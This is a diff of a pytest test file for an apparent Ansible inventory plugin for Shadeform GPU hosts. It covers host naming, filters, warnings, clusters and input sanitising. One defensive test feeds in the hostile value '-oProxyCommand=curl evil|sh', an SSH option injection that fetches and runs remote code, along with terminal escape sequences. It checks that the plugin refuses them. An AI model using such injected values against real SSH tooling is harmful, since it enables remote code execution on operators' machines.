@@ -174,33 +174,32 @@ def mapping_options(**changes):
     return options
 
 
-def test_inventory_hosts_maps_filters_and_warns_in_one_pure_call(example):
+def mapping_of(instances, options, clusters=None, preferred=None):
+    """The plugin's pure steps, in its order: host variables, then names and plain filters."""
+    return hosts.inventory_hosts(hosts.fleet_variables(instances, options, clusters), options, preferred)
+
+
+def test_inventory_hosts_maps_filters_and_warns_in_pure_steps(example):
     pending = dict(example, id="p-1", name="twin", status="pending", ip=None)
     active = dict(example, id="a-1", name="twin", omit="api")
-    marked = []
-
-    def untrusted(value):
-        marked.append(value)
-        return value
-
-    mapping = hosts.inventory_hosts([pending, "odd", active], mapping_options(statuses=["active"], hostvars_prefix=""),
-                                    untrusted=untrusted)
+    options = mapping_options(statuses=["active"], hostvars_prefix="")
+    fleet = hosts.fleet_variables([pending, "odd", active], options)
+    assert fleet.instances == [pending, active] and [variables["id"] for variables in fleet.variables] == ["p-1", "a-1"]
+    mapping = hosts.inventory_hosts(fleet, options)
     [(name, variables, groups)] = mapping.hosts
     assert name == "twin-a-1" and variables["ansible_host"] == "1.0.0.1" and "omit" not in variables
+    assert variables is fleet.variables[1]  # passed on as the plugin gave them (marked untrusted before 2.19)
     assert "status_active" in groups
-    assert marked == [variables, name]  # the API's data and the name derived from it, nothing else
     assert mapping.warnings[0] == "Skipping Shadeform instance #2: the API gave str, not an object."
     assert "would be named 'twin'" in mapping.warnings[1] and "'omit'" in mapping.warnings[2]
     assert mapping.details == []
 
 
 def test_inventory_hosts_without_default_groups_and_with_preferred_names(example):
-    [(_name, _variables, groups)] = hosts.inventory_hosts([example], mapping_options(default_groups=False)).hosts
+    [(_name, _variables, groups)] = mapping_of([example], mapping_options(default_groups=False)).hosts
     assert groups == []
     second = dict(example, id="i-2")
-    mapping = hosts.inventory_hosts([example, second], mapping_options(),
-                                    preferred_names=lambda valid, variables: [
-                                        "gpu:{0}".format(v["shadeform_id"]) if i["id"] == "i-2" else None for i, v in zip(valid, variables)])
+    mapping = mapping_of([example, second], mapping_options(), preferred=[None, "gpu:i-2"])
     assert [name for name, _variables, _groups in mapping.hosts] == ["cool-gpu-server", "gpu_i-2"]
 
 
@@ -221,7 +220,7 @@ def test_connection_variables_refuse_values_ssh_could_read_as_options(fields, ex
 
 def test_a_refused_ssh_value_is_one_warning_naming_host_and_field_never_the_raw_value(example):
     hostile = dict(example, id="h-1", name="gpu\x1b[31m", ip="-oProxyCommand=curl evil|sh", ssh_port="x\x9b2J")
-    mapping = hosts.inventory_hosts([hostile, dict(example, id="h-2", name="fine")], mapping_options())
+    mapping = mapping_of([hostile, dict(example, id="h-2", name="fine")], mapping_options())
     [warning] = [text for text in mapping.warnings if "not used" in text]
     assert "Shadeform host 'gpu__31m': its ip and ssh_port from the API are not a valid IP address or host name / port" in warning
     assert "-oProxyCommand" not in warning and "\x1b" not in warning and "\x9b" not in warning
@@ -231,7 +230,7 @@ def test_a_refused_ssh_value_is_one_warning_naming_host_and_field_never_the_raw_
 
 def test_refused_ssh_values_of_a_large_fleet_are_summed_up(example):
     fleet = [dict(example, id="h-%d" % index, name="h%d" % index, ip="-o%d" % index) for index in range(10)]
-    warnings = [text for text in hosts.inventory_hosts(fleet, mapping_options()).warnings if "not used" in text]
+    warnings = [text for text in mapping_of(fleet, mapping_options()).warnings if "not used" in text]
     assert len(warnings) == hosts.MAX_RENAME_WARNINGS + 1 and warnings[-1].startswith("7 more Shadeform hosts")
 
 
@@ -239,7 +238,7 @@ def test_refused_ssh_values_of_a_large_fleet_are_summed_up(example):
 
 def test_c1_control_characters_never_reach_host_or_group_names(example):
     odd = dict(example, name="a\x9b31mb\x85c\x7f", tags=["t\x9b1"], region="r\x1bx")
-    [(name, _variables, groups)] = hosts.inventory_hosts([odd], mapping_options()).hosts
+    [(name, _variables, groups)] = mapping_of([odd], mapping_options()).hosts
     assert name == "a_31mb_c_"
     assert not [group for group in groups if any(0x7f <= ord(char) <= 0x9f or ord(char) < 0x20 for char in group)], groups
     assert "tag_t_1" in groups and "region_r_x" in groups
@@ -249,7 +248,7 @@ def test_nan_and_infinity_are_absent_fields_with_one_warning(example):
     odd = dict(example, id="n-1", hourly_price=float("nan"), ssh_port=float("inf"),
                configuration=dict(example["configuration"], vcpus=float("-inf")), tags=["a", float("nan")])
     finite, warning = hosts.without_non_finite([odd, dict(example, id="n-2", name="fine")])
-    mapping = hosts.inventory_hosts(finite, mapping_options())
+    mapping = mapping_of(finite, mapping_options())
     (_name, variables, _groups), (_fine, fine, _fine_groups) = mapping.hosts
     for name in ("shadeform_hourly_price", "shadeform_hourly_price_usd", "ansible_port", "shadeform_ssh_port"):
         assert name not in variables
@@ -308,7 +307,7 @@ def cluster():
 @pytest.mark.parametrize("members_listed", [False, True])
 def test_cluster_members_are_one_host_each_in_the_clusters_group_whether_listed_or_not(example, cluster, members_listed):
     instances = [example] + (cluster["instances"] if members_listed else [])
-    mapping = hosts.inventory_hosts(instances, mapping_options(), clusters=[cluster])
+    mapping = mapping_of(instances, mapping_options(), clusters=[cluster])
     by_name = dict((name, (variables, groups)) for name, variables, groups in mapping.hosts)
     assert sorted(by_name) == ["cool-gpu-server", "trainers-0", "trainers-1"] and not mapping.warnings
     for index, name in enumerate(("trainers-0", "trainers-1")):
@@ -322,14 +321,23 @@ def test_cluster_members_are_one_host_each_in_the_clusters_group_whether_listed_
 
 def test_cluster_members_take_the_filters_prefix_and_default_groups_of_every_host(example, cluster):
     renamed = dict(cluster, name=None, instances=[dict(cluster["instances"][0], status="pending", ip=None), cluster["instances"][1]])
-    mapping = hosts.inventory_hosts([example], mapping_options(statuses=["active"], hostvars_prefix="sf_"), clusters=[renamed, "odd"])
+    mapping = mapping_of([example], mapping_options(statuses=["active"], hostvars_prefix="sf_"), clusters=[renamed, "odd"])
     [member] = [(name, variables, groups) for name, variables, groups in mapping.hosts if name.startswith("trainers")]
     assert member[0] == "trainers-1" and member[1]["sf_cluster_id"] == cluster["id"] and member[1]["sf_cluster_name"] is None
     assert "cluster_" + cluster["id"].replace("-", "_") in member[2]  # no name: the group is named after the id
-    assert hosts.inventory_hosts([example], mapping_options(default_groups=False), clusters=[cluster]).hosts[1][2] == []
+    assert mapping_of([example], mapping_options(default_groups=False), clusters=[cluster]).hosts[1][2] == []
 
 
 def test_a_cluster_named_like_a_host_does_not_take_the_hosts_name(example, cluster):
     clash = dict(example, id="c-1", name="cluster_trainers_run_1")
-    names = [name for name, _variables, _groups in hosts.inventory_hosts([clash], mapping_options(), clusters=[cluster]).hosts]
+    names = [name for name, _variables, _groups in mapping_of([clash], mapping_options(), clusters=[cluster]).hosts]
     assert names == ["cluster_trainers_run_1-c-1", "trainers-0", "trainers-1"]
+
+
+@pytest.mark.parametrize("name, expected", [
+    ("gpu:a100", "gpu_a100"), ("!prod", "_prod"), ("&prod", "_prod"), ("~re", "_re"), ("@file", "_file"),
+    ("-lead", "_lead"), ("a]b", "a_b"), ("gpu[0:1]", "gpu_0_1_"), ("x,y", "x_y"), ("a!b&c~d@e-f", "a!b&c~d@e-f"),
+    (" {{ x }} ", "___x___"), ("2001:db8::5", "2001:db8::5"), ("a*?.b", "a*?.b"), ("fe80::1%eth0", "fe80__1%eth0"),
+])
+def test_pattern_syntax_is_replaced_deterministically(name, expected):
+    assert hosts.safe_hostname(name) == expected
